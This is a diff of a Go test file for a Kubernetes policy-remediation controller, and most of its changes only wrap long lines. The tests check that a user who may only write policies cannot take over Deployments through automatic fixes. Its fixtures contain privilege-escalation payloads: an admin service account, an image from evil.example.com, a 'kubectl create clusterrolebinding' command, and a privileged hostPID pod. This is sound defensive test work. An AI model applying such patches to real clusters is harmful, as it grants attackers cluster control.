@@ -1,3 +1,5 @@
+// SPDX-License-Identifier: Apache-2.0
+
 package attack_test
 
 import (
@@ -28,7 +30,8 @@ deny contains "must run as admin" if wrong
 remediation contains {"action": "patch", "ops": [
 	{"op": "add", "path": "/spec/template/spec/serviceAccountName", "value": "admin"},
 	{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "evil.example.com/shell:1"},
-	{"op": "add", "path": "/spec/template/spec/containers/0/command", "value": ["sh", "-c", "kubectl create clusterrolebinding mine"]},
+	{"op": "add", "path": "/spec/template/spec/containers/0/command",
+		"value": ["sh", "-c", "kubectl create clusterrolebinding mine"]},
 ]} if wrong
 `
 
@@ -48,12 +51,14 @@ var _ = Describe("A user who may write policies and nothing else", func() {
 	}
 
 	It("can't have anything written in kube-system", func(ctx context.Context) {
-		attempt("write a policy whose Automatic fix sets service account, image and command of a Deployment in kube-system")
+		attempt("write a policy whose Automatic fix sets service account, image and command of a Deployment in " +
+			"kube-system")
 		victim := fixture.Deployment("kube-system", namespace)
 		suite.Create(ctx, victim)
 		DeferCleanup(func(ctx context.Context) { Expect(suite.API.Delete(ctx, victim)).To(Succeed()) })
 
-		write(ctx, fixture.Policy(namespace, "kube-system", takeOver, fixture.Kinds("apps", "Deployment"), fixture.Remediated(v1alpha1.RemediationAutomatic)))
+		write(ctx, fixture.Policy(namespace, "kube-system", takeOver, fixture.Kinds("apps", "Deployment"),
+			fixture.Remediated(v1alpha1.RemediationAutomatic)))
 		suite.AwaitEvent(ctx, "RemediationNotPlanned", namespace, ContainSubstring("1 NotAllowed"))
 		Expect(suite.Plans(ctx, namespace)).To(BeEmpty())
 		unchanged(ctx, victim)
@@ -67,7 +72,8 @@ var _ = Describe("A user who may write policies and nothing else", func() {
 			g.Expect(suite.Get(ctx, victim)).To(Succeed())
 			g.Expect(victim.Status.AvailableReplicas).To(BeEquivalentTo(1))
 		}).Should(Succeed())
-		write(ctx, fixture.Policy(namespace, namespace, takeOver, fixture.Kinds("apps", "Deployment"), fixture.Remediated(v1alpha1.RemediationAutomatic)))
+		write(ctx, fixture.Policy(namespace, namespace, takeOver, fixture.Kinds("apps", "Deployment"),
+			fixture.Remediated(v1alpha1.RemediationAutomatic)))
 		refused(ctx, namespace, "web", "--remediation-allow-fields")
 		unchanged(ctx, victim)
 	})
@@ -79,7 +85,8 @@ var _ = Describe("A user who may write policies and nothing else", func() {
 			"spec": {"hostPID": true, "containers": [{"name": "x", "image": "evil.example.com/shell:1", "securityContext": {"privileged": true}}]}}}`, namespace)
 		write(ctx, fixture.Policy(namespace, namespace, fixture.Acts(`input.object.data.state == "bad"`, pod,
 			`{"action": "patch", "ops": [{"op": "replace", "path": "/data/state", "value": "good"}]}`),
-			fixture.Remediated(v1alpha1.RemediationAutomatic, fixture.Allowing(v1alpha1.ActionPatch, v1alpha1.ActionCreate))))
+			fixture.Remediated(v1alpha1.RemediationAutomatic,
+				fixture.Allowing(v1alpha1.ActionPatch, v1alpha1.ActionCreate))))
 		refused(ctx, namespace, "web", "--remediation-allow-fields")
 	})
 })
